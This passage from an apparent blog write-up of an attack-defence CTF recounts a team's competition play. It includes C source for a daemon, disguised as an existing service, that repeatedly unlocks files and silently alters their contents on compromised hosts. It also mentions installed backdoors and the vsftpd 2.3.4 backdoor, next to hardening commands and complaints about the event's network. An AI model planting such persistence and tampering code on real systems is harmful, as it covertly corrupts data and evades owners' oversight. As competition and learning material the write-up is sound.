The result The resultWe also hid this daemon as an existing service. We won’t elaborate on our techniques as it’s a pretty cool stealthy solution. Do a little more ‘Ask the Oracle’

// Monitor flags for correction. Then rectify that.
// by amon ([email protected])

#include <stdlib.h>
#include <unistd.h>

int main() {
    while (1) {
        system("chattr -i /srv/www/htdocs/index.html");
        system("cat /srv/www/htdocs/index.html | md5sum | grep fa477c36d6c52d52bbd9b6af7df708fa && sed -i 's/service\\./service. /g' /srv/www/htdocs/index.html");
        system("chattr +i /srv/www/htdocs/index.html");
        system("chattr -i /var/ftp/welcome.msg");
        system("cat /var/ftp/welcome.msg | md5sum | grep df35704116608a3ed56f6710fe7e3b07 && sed -i 's/,//g' /var/ftp/welcome.msg");
        system("chattr +i /var/ftp/welcome.msg");
        system("chattr -i /home/public/file");
        system("cat /home/public/file | md5sum | grep 4d91498a12508cd7f51fe6d5265ee521 && sed -i 's/ts/t/g' /home/public/file");
        system("chattr +i /home/public/file");


After we are done installing our backdoors and our unintegrity daemon, we want to leave the system to its own devices. We also don’t want anyone else coming in and rm -rf /-ing the whole server because there is beauty and craft in subtlety. Basically, there are three issues thatneed immediate fixing:

  1. vsftpd 2.3.4 backdoor
  2. Default passwords for root and logging in over ssh
  3. Default passwords for root and accessing FTP

Now, this is a little tricky because two of the three issues are solved by changing the default root password but we do not want to alert the team to the fact that their system has been compromised by changing their root passwords for them. Let’s deal with the vsftpd 2.3.4 backdoor first.Our solution was extremely simple. I patched the binary to look for the character sequence ‘D8’ instead of ‘:)’ and replaced their original binary with mine.

Patching out the smiley Patching out the smiley

The other two issues we solved by modifying the corresponding service configuration files and essentially hardened the settings.

We can disallow root logins over FTP by enforcing a userlist file to be used by setting userlist_enable and userlist_file in /etc/vsftpd.conf.

printf "\nuserlist_enable=YES\nuserlist_file=/etc/ftpusers\n" >> /etc/vsftpd.conf

We can also disallow root logins using passwords over SSH by specifying the option PermitRootLogin without-password.

sed -i 's/#PermitRootLogin yes/PermitRootLogin without-password/g' /etc/ssh/sshd_config
sed -i 's/PermitRootLogin yes/PermitRootLogin without-password/g' /etc/ssh/sshd_config
service sshd restart

In Action

We have a screen capture of SleekPwn running a replay of the first hour of the competition. Unfortunately, SleekPwn stopped working towards the end of the first hour after the IHL network (provided by the hardware and network vendor that set up the floor cabling) displayed severe connectivity issues, preventing anyone in the IHL section to access the Gamemasters’ gameplay network. There was simply no way for us to reach anything in the gameplay network through the wired cabling and switches at the IHL tables since all traffic has to go through the faulty vendor supplied hardware.

Now, we can confirmthat the gameplay network was not disrupted as the JC teams, who were probably directly cabled to the Gamemasters’ switches instead of through the IHL network, did not complain of any network outage or connectivity problems. This was further confirmed as after the left most IHL column was directly patched to the Gamemasters’ switch and regained connectivity. (We actually confirmed this for ourselves after the competition by plugging our SleekPwn machine to that row and instantly regained contact with our compromised machines.)

Connectivity issues aside, let us get back to the video. In the video, what you can observe is thatthe hosts change colours based on their statuses. Blue hosts have been compromised while black hosts are uncompromised. At that point, the black hosts are unreachable. That is, their servers were not up at all. SleekPwn ran without problems for a glorious hour until the IHL network went FUBAR. Unfortunately, no corrective effort was made on the part of the hardware and network vendors so connectivity was never regained for the rest of the columns.Competition Day

Unfortunately, during the majority of the five hours of competition, our team was bogged down with debugging the network issues which ultimately turned out to be a hardware misconfiguration that affected everybody in the IHL group. As such, although we did solve a a lot of side challenges that do not rely on the main network, it was hardly enough. Our attempts at making progress just drove us further down into the ground as we focused on a veryactive playstyle where we expected to use the information we sacrificed our initial starting points for.

Instead, we were met with a very dead network (very bad monitoring of network health on the part of the hardware vendors supplying the student side of the network) and could do nothing but waste good time until the WiFi trade-ins were open at 12pm. The Wi-Fi network that connected straight to the Gamemasters had no such problems. It was truly a pity. About 80% of teams machines compromised, and unable to take advantageof that. (Incidentally, we were heartbroken that one of the side challenges we found through WiFi required us to demonstrate we had root access on Team 7. Which we did. But perhaps it was our fault that we didn’t seek to demonstrate it physically instead of banging our heads on the non responsive network)

As it were, it was no surprise the team that was the most passive took the grand prize while teams that actively sought solutions to their dilemma, taking risks and slogging through the mismanaged situation, and basically prepared for anything but the most ridiculously stacked odds on the part of the lack of timely network fault detection and remediation processes by the floor hardware providers.

Truly, a team can achieve the Best of Defence if there is no opposing Offence to speak of. An absent Offence that actually bled a number of teams dry just from running in that first hour.

I shall not elaborate any further. All further exposition will be carried on in this post where I will also perform a review of the situation and provide constructive feedback.

There will be no analysis of the scenario-based network.


While we have been met with extreme disappointment in the light of all our effort into preparing for the competition, not all is lost. In the preparation step, we have learnt to work as a team toward achieving an admirable goal and I must say we have taken huge steps to achieving it. Personally, I’ve learnt a lot just by dissecting the vulnerable server, crafting all sorts of attacks against it, and figuring out the defences against my own attacks and I’m glad that I can open source my work and write about it so that others may still learn. Seriously, it was a lot of fun when everythingwent according to plan for that one hour, with the pass spoofing shenanigans, mass exploitation, and document parsing assembly lines. And well…

I guess that sometimes the heroes have to be blind, deaf, and stumbling. Because apt metaphors are apt.

    Special casesaren't special enough to break the rules.
    Although practicality beats purity.
    Errors should never pass silently.
    Unless explicitly silenced.

[email protected]:~/ctf2015/cddc/sleekpwn$ cloc .
      31 text files.
      30 unique files.
      17 files ignored. v 1.60  T=0.18 s (77.4 files/s, 6684.4 lines/s)
Language                     files          blank        comment           code
Python                           6             99             50            462
HTML                             3             76              2            424
Bourne Shell                     1              4             12             34C                                23              2             25
CSS                              1              0              0             12
Javascript                       1              0              1              3SUM:                            14182             67            960

Leave a Comment